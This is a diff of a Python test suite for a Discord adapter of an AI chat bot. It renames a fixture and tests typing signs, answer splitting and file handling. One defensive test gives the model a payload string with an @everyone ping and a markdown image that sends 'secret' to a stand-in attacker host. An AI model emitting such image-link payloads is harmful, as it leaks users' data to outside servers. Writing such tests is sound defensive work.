@@ -9,7 +9,7 @@ import pytest
 from adapters.discord import presence, surface
 from core.chat.presence import SIGN_AFTER_SECONDS
 from core.domain.records import RoundRequest
-from tests.discord.house import DiscordPonte
+from tests.discord.discord_ponte import DiscordPonte
 from tests.fakes.discord import DiscordPerson, FakeDiscord
 from tests.fakes.discord.world import Payload
 from tests.fakes.loop_clock import LoopClock, run_ready
@@ -18,10 +18,10 @@ from tests.fakes.loop_clock import LoopClock, run_ready
 class Gate:
     """A model that thinks, before its first word, until it is told to go on."""
 
-    def __init__(self, house: DiscordPonte) -> None:
+    def __init__(self, ponte: DiscordPonte) -> None:
         self.reached = asyncio.Event()
         self._open = asyncio.Event()
-        house.model.gate = self._wait
+        ponte.model.gate = self._wait
 
     async def _wait(self, ask: RoundRequest) -> None:
         self.reached.set()
@@ -32,12 +32,12 @@ class Gate:
 
 
 async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert 0.3 < SIGN_AFTER_SECONDS < 0.8, "seconds; a quicker answer needs no sign"
     monkeypatch.setattr(presence, "SIGN_AFTER_SECONDS", 3.0)
-    gate = Gate(house)
-    await house.open()
+    gate = Gate(ponte)
+    await ponte.open()
     await ana.say("hello")
     await gate.reached.wait()
     assert not ana.dm.typing
@@ -48,13 +48,13 @@ async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
 
 
 async def test_the_sign_is_renewed_until_the_answer_stands(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("core.chat.reply.WHOLE_ANSWER_SECONDS", 60.0)  # the answer is posted whole
     monkeypatch.setattr(surface.ChannelSurface, "interval", 60.0)
     monkeypatch.setattr(presence, "TYPING_PERIOD_SECONDS", 0.05)
-    gate = Gate(house)
-    await house.open()
+    gate = Gate(ponte)
+    await ponte.open()
     await ana.say("hello")
     await discord.wait_until(lambda: len(ana.dm.typing) > 5)
     discord.refuse("POST", "/channels/*/messages", 429, 40062)
@@ -73,38 +73,38 @@ async def test_the_sign_is_renewed_until_the_answer_stands(
 
 
 async def test_text_that_does_not_grow_is_no_sign(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(presence, "STILL_TEXT_SECONDS", 0.3)
     monkeypatch.setattr(presence, "TYPING_PERIOD_SECONDS", 0.05)
-    house.model.script = {"tell me": ["one", " two"]}
-    house.model.pauses = asyncio.Queue()
-    await house.open()
+    ponte.model.script = {"tell me": ["one", " two"]}
+    ponte.model.pauses = asyncio.Queue()
+    await ponte.open()
     await ana.say("tell me")
     await ana.wait_for_text("one")
     typed = len(ana.dm.typing) + 1  # one may have been on its way
     await discord.wait_until(lambda: len(ana.dm.typing) > typed)
-    house.model.go_on()
+    ponte.model.go_on()
     await ana.wait_for_text("one two")
 
 
 async def test_an_answer_that_comes_at_once_needs_no_sign(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(presence, "SIGN_AFTER_SECONDS", 60.0)
-    await house.open()
+    await ponte.open()
     await ana.say("hello")
     await ana.wait_for_text("You said: hello")
     assert not ana.dm.typing
 
 
 async def test_while_a_thread_is_being_made_the_sign_shows_where_the_question_stands(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     channel = discord.text_channel(discord.guild("Bolts", ana), "general")
-    gate = Gate(house)
+    gate = Gate(ponte)
     making = discord.hold("POST", "/channels/*/threads")
-    await house.open()
+    await ponte.open()
     question = await ana.mention("bolts?", channel)
     await discord.wait_until(lambda: channel.typing)
     making.release()
@@ -114,12 +114,12 @@ async def test_while_a_thread_is_being_made_the_sign_shows_where_the_question_st
 
 
 async def test_a_command_whose_token_ends_shows_typing_in_its_channel(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
-    gate = Gate(house)
+    gate = Gate(ponte)
     discord.interactions.deadline = -1.0
-    await house.open()
-    await house.ready()
+    await ponte.open()
+    await ponte.ready()
     await ana.slash("ask", prompt="hello")
     await discord.wait_until(lambda: ana.dm.typing)
     gate.open()
@@ -127,11 +127,11 @@ async def test_a_command_whose_token_ends_shows_typing_in_its_channel(
 
 
 async def test_what_is_private_shows_no_typing_to_others(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     channel = discord.text_channel(discord.guild("Bolts", ana), "general")
-    await house.open()
-    await house.ready()
+    await ponte.open()
+    await ponte.ready()
     exchange = await ana.slash("status", channel)
     await exchange.wait_for_answer()
     assert exchange.ephemeral
@@ -139,39 +139,39 @@ async def test_what_is_private_shows_no_typing_to_others(
 
 
 async def test_a_turn_that_is_put_back_types_no_more(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(presence, "SIGN_AFTER_SECONDS", 0.01)
     monkeypatch.setattr(presence, "TYPING_PERIOD_SECONDS", 0.02)
-    gate = Gate(house)
-    await house.open()
+    gate = Gate(ponte)
+    await ponte.open()
     await ana.say("hello")
     await discord.wait_until(lambda: ana.dm.typing)
-    await house.engine.drain(0.0)
+    await ponte.engine.drain(0.0)
     typed, clock = len(ana.dm.typing), LoopClock()
     for _ in range(3):
         clock.skip(presence.TYPING_PERIOD_SECONDS)
         await run_ready()
     assert len(ana.dm.typing) <= typed + 1
     gate.open()
-    await house.close()
-    await house.open()
+    await ponte.close()
+    await ponte.open()
     await ana.wait_for_text("You said: hello")
 
 
 async def test_a_message_that_waits_wears_an_hourglass(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(presence, "HOURGLASS_AFTER_SECONDS", 0.05)
-    house.model.script = {"tell me": ["one", " two"]}
-    house.model.pauses = asyncio.Queue()
-    await house.open()
+    ponte.model.script = {"tell me": ["one", " two"]}
+    ponte.model.pauses = asyncio.Queue()
+    await ponte.open()
     first = await ana.say("tell me")
     await ana.wait_for_text("one")
     waiting = await ana.say("and then?")
     glass = "⏳"
     await discord.wait_until(lambda: ("PUT", int(waiting["id"]), glass) in discord.rest.reactions)
-    house.model.go_on()
+    ponte.model.go_on()
     await ana.wait_for_text("You said: and then?")
     await discord.wait_until(
         lambda: ("DELETE", int(waiting["id"]), glass) in discord.rest.reactions
@@ -180,21 +180,21 @@ async def test_a_message_that_waits_wears_an_hourglass(
 
 
 async def test_an_answer_grows_by_edits_that_are_never_queued(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     words = [f"word{n} " for n in range(200)]
-    house.model.script = {"tell me": words}
-    house.model.pauses = asyncio.Queue()
-    await house.open()
+    ponte.model.script = {"tell me": words}
+    ponte.model.pauses = asyncio.Queue()
+    await ponte.open()
     loop = asyncio.get_running_loop()
     began = loop.time()
     await ana.say("tell me")
     await ana.wait_for_text("word0")
     for _ in words[:120]:
-        house.model.go_on()
+        ponte.model.go_on()
     await ana.wait_for_text("word100")
     for _ in words:
-        house.model.go_on()
+        ponte.model.go_on()
     answer = await ana.wait_for_text("word199")
     took = loop.time() - began
     assert len(discord.world.messages_by(discord.world.me.id)) == 1
@@ -202,11 +202,11 @@ async def test_an_answer_grows_by_edits_that_are_never_queued(
 
 
 async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
-    house: DiscordPonte, ana: DiscordPerson
+    ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     code = "\n".join(f"line_{n} = {n}" for n in range(200))
-    house.model.script = {"tell me": [f"Here:\n\n```python\n{code}\n```\n\nDone."]}
-    await house.open()
+    ponte.model.script = {"tell me": [f"Here:\n\n```python\n{code}\n```\n\nDone."]}
+    await ponte.open()
     await ana.say("tell me")
     seen = await ana.wait_for_messages(lambda seen: seen and seen[-1]["content"].endswith("Done."))
     assert len(seen) == 2
@@ -217,10 +217,10 @@ async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
     await ana.discord.wait_until(lambda: not any(buttons(part) for part in seen))
 
 
-async def test_a_very_long_answer_ends_in_a_file(house: DiscordPonte, ana: DiscordPerson) -> None:
+async def test_a_very_long_answer_ends_in_a_file(ponte: DiscordPonte, ana: DiscordPerson) -> None:
     long = "\n\n".join(f"paragraph {n} " + "x" * 900 for n in range(20))
-    house.model.script = {"tell me": [long]}
-    await house.open()
+    ponte.model.script = {"tell me": [long]}
+    await ponte.open()
     await ana.say("tell me")
     last = await ana.wait_for_text("The full answer is in `answer.md`")
     await ana.discord.wait_until(lambda: last["attachments"])
@@ -232,12 +232,12 @@ async def test_a_very_long_answer_ends_in_a_file(house: DiscordPonte, ana: Disco
 
 
 async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
-    house: DiscordPonte, ana: DiscordPerson
+    ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     rows = "\n".join(f"| {n} | Ana {n} | Lisboa | =1+1 |" for n in range(60))
     table = f"| id | name | city | note |\n|---|---|---|---|\n{rows}"
-    house.model.script = {"show": [f"Your customers:\n\n{table}"]}
-    await house.open()
+    ponte.model.script = {"show": [f"Your customers:\n\n{table}"]}
+    await ponte.open()
     await ana.say("show")
     answer = await ana.wait_for_text("57 more rows are in `table-1.csv`")
     await ana.discord.wait_until(lambda: answer["attachments"])
@@ -250,11 +250,11 @@ async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
 
 
 async def test_model_text_mentions_nobody_and_fetches_nothing(
-    house: DiscordPonte, ana: DiscordPerson
+    ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
-    house.model.script = {"say it": [evil]}
-    await house.open()
+    ponte.model.script = {"say it": [evil]}
+    await ponte.open()
     await ana.say("say it")
     answer = await ana.wait_for_text("evil.example")
     assert "@everyone" not in answer["content"]
@@ -264,24 +264,24 @@ async def test_model_text_mentions_nobody_and_fetches_nothing(
 
 
 async def test_files_in_are_kept_by_their_own_name_and_the_large_one_is_not_read(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
-    await house.open()
+    await ponte.open()
     large = b"x" * (21 * 1024 * 1024)
     await ana.say("look", files=[("relatório.csv", b"a,b\n1,2\n"), ("film.mp4", large)])
     await ana.wait_for_text("You said: look")
-    item = house.model.asks[0].input[-1]
+    item = ponte.model.asks[0].input[-1]
     assert [file.name for file in item.files] == ["relatório.csv"]
     assert "film.mp4 could not be fetched" in item.text
-    _, data = await house.engine.records.files.get(item.files[0].id)
+    _, data = await ponte.engine.records.files.get(item.files[0].id)
     assert data == b"a,b\n1,2\n"
     assert discord.downloads == 1
 
 
 async def test_a_file_that_the_cdn_does_not_give_does_not_take_the_turn(
-    discord: FakeDiscord, house: DiscordPonte, ana: DiscordPerson
+    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
-    await house.open()
+    await ponte.open()
     discord.refuse("GET", "/cdn/*", 404, times=9)
     await ana.say("look", files=[("a.csv", b"1")])
     answer = await ana.wait_for_text("a.csv could not be fetched")
